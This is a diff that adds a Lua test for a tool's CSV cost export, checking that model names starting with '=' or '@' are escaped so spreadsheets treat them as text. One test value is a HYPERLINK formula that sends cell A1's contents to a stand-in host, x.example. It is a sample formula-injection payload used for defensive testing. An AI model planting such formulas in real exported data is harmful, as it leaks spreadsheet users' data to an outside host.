@@ -474,3 +474,24 @@ assert(resil.cost.record({ provider = "p", model = "m", usd = 2 }))
     end
   end)
 end)
+
+-- (before: a model an upstream named "=HYPERLINK(...)" was a formula in the spreadsheet that
+-- opened the ledger's CSV: the model is what the provider's answer said)
+describe("resil-lua costs --csv", function()
+  it("writes a text a spreadsheet would run as a formula as text", function()
+    local db = helpers.tmpname(".db")
+    local r = helpers.run_script([[
+local resil = require "resil"
+assert(resil.cost.record({ provider = "p", model = '=HYPERLINK("http://x.example/?"&A1,"open")', usd = 1 }))
+assert(resil.cost.record({ provider = "p", model = "@SUM(1+1)", usd = 2 }))
+assert(resil.cost.record({ provider = "p", model = "-1", usd = 3 }))
+]], "--log-level off --store " .. db)
+    assert.are.equal(0, r.code, r.stderr)
+    r = helpers.run(("%s costs --csv --store %s"):format(helpers.resil, db))
+    assert.matches(',"\'=HYPERLINK(""http://x.example/?""&A1,""open"")",', r.stdout, 1, true)
+    assert.matches(",'@SUM(1+1),", r.stdout, 1, true)
+    assert.matches(",-1,", r.stdout, 1, true) -- (a number stays one)
+    r = helpers.run(("%s costs --by model --csv --store %s"):format(helpers.resil, db))
+    assert.matches("\n'@SUM(1+1),1,2.000000\n", r.stdout, 1, true)
+  end)
+end)
